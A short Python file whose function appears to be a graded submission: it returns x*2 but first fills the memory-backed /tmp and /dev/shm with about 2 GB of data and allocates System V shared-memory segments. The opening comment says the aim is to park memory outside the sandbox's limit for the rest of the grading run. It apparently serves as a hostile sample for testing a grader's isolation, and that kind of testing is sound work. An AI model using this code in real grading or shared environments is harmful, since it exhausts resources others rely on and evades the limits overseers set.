# Parks memory outside its memory limit: fills /tmp and /dev/shm (memory-backed file systems)
# and System V shared memory, hoping it stays there for the rest of a grading run.
import ctypes
import os


def f(x, hint):
    block = b"\0" * (1 << 20)
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(os.path.join(folder, "hog"), "wb") as fh:
                for _ in range(2048):  # 2 GB, if nothing stops it
                    fh.write(block)
        except OSError:
            pass
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        for key in range(16):
            libc.shmget(0x4D4A1000 + key, 256 << 20, 0o1600)
    except OSError:
        pass
    return x * 2
